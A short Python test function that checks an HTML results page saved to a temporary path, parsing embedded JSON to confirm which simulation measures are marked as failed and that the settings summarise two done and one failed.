def test_a_page_marks_what_failed_of_each_measure(tmp_path: Path) -> None:
    text = partial_results().save(tmp_path / "curve.html").read_text()
    found = re.search('id="sweep">(.*?)</script>', text)
    assert found is not None
    sweep = json.loads(found[1])
    failed = {one["title"]: one["failed"] for one in sweep["measures"]}
    assert failed == {"Count": [[False, False, True]], "Rate": [[False, True, True]]}
    assert ["Simulations", "2 done, 1 failed (2 of them partial), of 3"] in sweep["settings"]
